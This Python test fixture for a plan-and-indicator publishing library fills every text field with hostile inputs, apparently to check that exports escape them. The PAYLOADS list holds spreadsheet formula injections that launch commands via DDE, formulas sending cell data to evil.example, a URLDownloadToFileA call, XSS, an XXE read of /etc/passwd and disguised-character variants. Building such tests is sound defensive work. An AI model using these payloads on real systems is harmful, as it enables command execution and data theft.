"""Texts that some program would obey, and a plan that has one wherever a text can stand."""

from __future__ import annotations

import rusfelt
from rusfelt.disclosure.policy import policy_named
from rusfelt.publishing import Hidden, Published

__all__ = ["PAYLOADS", "hostile", "states"]

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
    '=HYPERLINK("http://evil.example/?x="&A1,"klikk")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=IMAGE("http://evil.example/x.png")',
    '=RTD("prog","","x")',
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://evil.example","x",0,0)',
    "{=1+1}",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "tekst\n=1+1",
    "tekst\r\n=1+1",
    "tekst\t=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "a;=1+1",
    "a,=1+1",
    "a|=1+1",
    'a";=1+1;"',
    'a",=1+1,"',
    '"=1+1"',
    "'=1+1",
    "a; @SUM(1)",
    "http://evil.example/",
    "mailto:x@evil.example",
    "file:///c:/windows/win.ini",
    "\\\\evil.example\\share",
    "internal:Ark!A1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '<![CDATA[x]]><!ENTITY x SYSTEM "file:///etc/passwd">',
    ']]></narrative><actual value="9"/>',
    "&x; &#0; &lt;b&gt;",
    "_x0041__x000D_",
    '&P&N&"Arial,Bold"&K000000',
    "\x00\x07\x1b[31m\x7f",
    "\ud83d half",
    "1e5",
    "TRUE",
    "2019-03",
)  # fmt: skip


def hostile(**named: object) -> Published:
    """Every payload as a title, a unit, a source and a note, and in all else a plan can say."""
    first = PAYLOADS[4]
    indicators = [
        rusfelt.Indicator(
            f"i{place}", text, kind="count", counts="events", design="register", better="lower",
            unit=text, source=text, definition=text,
        )
        for place, text in enumerate(PAYLOADS)
    ]  # fmt: skip
    plan = rusfelt.Plan(
        "=hostile+1",
        first,
        owners=list(PAYLOADS),
        area="@area",
        period=["2020", "2024"],
        goals=[rusfelt.Goal("=g", first)],
        strategies=[rusfelt.Strategy("-s", first, goals=["=g"])],
        indicators=indicators,
        targets=[rusfelt.Target("i0", value=3, due="2022", operator="==", reason=first)],
        tiltak=[
            rusfelt.Tiltak(
                f"+t{place}", text, label=text, strategies=["-s"], responsible=[text],
                moves=[f"i{place}"], progress=[rusfelt.Progress("dropped", "2021", reason=text)],
            )
            for place, text in enumerate(PAYLOADS)
        ],
    )  # fmt: skip
    rows = [
        rusfelt.Measurement(f"i{place}", "@area", period=year, value=value, source=text, note=text)
        for place, text in enumerate(PAYLOADS)
        for year, value in (("2020", -12.5), ("2021", 7))
    ]
    found = rusfelt.evaluate_plan(plan, rusfelt.Measurements.of(rows), evaluators=[])
    told = tuple(Hidden("text", text, "i0", detail=text) for text in PAYLOADS)
    return Published(found, policy_named("helse5"), hidden=told, **named)  # type: ignore[arg-type]


def states(**named: object) -> Published:
    """A figure in every state a cell can have, and a bound, below zero and after a break."""
    of = rusfelt.Measurement
    rows = [
        of("i", period="2015", value=-12.5),
        of("i", period="2016", state="approximate", value=7),
        of("i", period="2017", state="missing"),
        of("i", period="2018", state="suppressed"),
        of("i", period="2019", state="not-applicable"),
        of("i", period="2020", state="undefined"),
        of("i", period="2021", value=5, bound="<"),
        of("i", period="2022", value=0, break_before=True),
        of("i", period="2023", state="projected", value=4),
        of("i", period="2024", state="not-due"),
        of("i", period="2022", value=8, group="age=18-24;sex=F"),
        of("m", period="2021-05-01", value=1),
    ]
    plan = rusfelt.Plan(
        "states",
        rusfelt.Titles(nb="Tilstander", en="States"),
        area="030108",
        period=["2020", "2024"],
        indicators=[
            rusfelt.Indicator("i", "Tall", kind="amount", unit="kroner", better="higher"),
            rusfelt.Indicator("m", "Milepæl", kind="milestone"),
            rusfelt.Indicator("none", "Uten tall", kind="count"),
        ],
        targets=[
            rusfelt.Target("i", value=10, due="2023", baseline=-12.5, baseline_period="2015"),
            rusfelt.Target("none", value=2, operator=">="),
            rusfelt.Target("m", value=1, due="2030-06-30"),
        ],
        tiltak=[rusfelt.Tiltak("t", "Gjøre noe", measured_by=["none"], moves=["i"])],
    )
    found = rusfelt.evaluate_plan(plan, rusfelt.Measurements.of(rows), as_of="2024-06-30")
    return Published(found, None, **named)  # type: ignore[arg-type]
